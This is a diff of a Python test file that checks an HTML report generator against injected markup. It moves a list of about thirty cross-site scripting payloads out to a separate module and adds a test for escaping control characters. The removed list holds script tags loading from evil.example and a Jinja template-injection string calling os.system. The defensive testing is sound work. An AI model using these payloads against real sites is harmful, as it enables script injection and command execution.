@@ -9,6 +9,7 @@ from typing import Any
 import numpy as np
 import pytest
 
+from payloads import PAYLOADS
 from rbft.records import Curated, LeftOut, Question, Verdict
 from rbft.report.curation import render_curation
 from rbft.report.material import ArmAnswer, DroppedExample, ExampleClip, LossCurve, ReliabilityBin, ReportMaterial
@@ -28,19 +29,6 @@ from rbft.results import (
     StepUsage,
 )
 
-PAYLOADS = [
-    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", '"><script>alert(1)</script>',
-    "'><script>alert(1)</script>", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>",
-    "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>",
-    "]]><script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><img src=x onerror="alert(1)">',
-    "' onmouseover='alert(1)", '" onfocus="alert(1)" autofocus="', "` onclick=`alert(1)`", "<svg/onload=alert(1)>",
-    "<svg><script>alert&#40;1&#41;</script>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
-    '<iframe srcdoc="<script>alert(1)</script>">', "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
-    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "<form action=//evil.example><input type=submit>",
-    "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example>", "{{ cycler.__init__.__globals__.os.system('id') }}{% raw %}",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-]  # fmt: skip
 FORBIDDEN = {"script", "iframe", "object", "embed", "base", "form", "link", "input", "frame", "frameset", "applet"}
 POLICY = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'"
 FRAMES = np.full((2, 12, 16, 3), 90, np.uint8)
@@ -166,5 +154,11 @@ def test_a_page_has_no_element_that_a_stranger_wrote(
         holds(page_of(render(payload)), payload, images, harmless)
 
 
-def test_there_are_thirty() -> None:
-    assert len(set(PAYLOADS)) == 30
+@pytest.mark.parametrize("payload", ["a\u202eb\x00c\ud800", "\x1b[31mred\x1b]0;title\x07\x9b2J"])
+def test_letters_that_cannot_be_printed_are_spelled_on_a_page(
+    payload: str, report: Report, page_of: Callable[[str], Any]
+) -> None:
+    spelled = "".join(c if c.isprintable() or c in "\u202e\ud800" else f"\\x{ord(c):02x}" for c in payload)
+    page = report_page(payload, report, figures=True)
+    assert spelled.replace("\ud800", "?") in page_of(page).text
+    assert not set("\x00\x07\x1b\x9b\ud800") & set(page)
